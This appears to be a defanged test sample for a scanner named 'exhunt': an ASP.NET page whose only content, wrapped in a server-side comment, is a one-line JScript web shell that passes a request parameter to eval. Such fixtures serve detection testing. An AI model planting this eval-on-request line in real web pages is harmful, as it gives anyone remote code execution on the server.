<%-- exhunt test sample, defanged: an ASP.NET server-side comment, never compiled
<script language="JScript" runat="server">function Page_Load(){eval(Request["exhunt"],"unsafe");}</script>
--%>
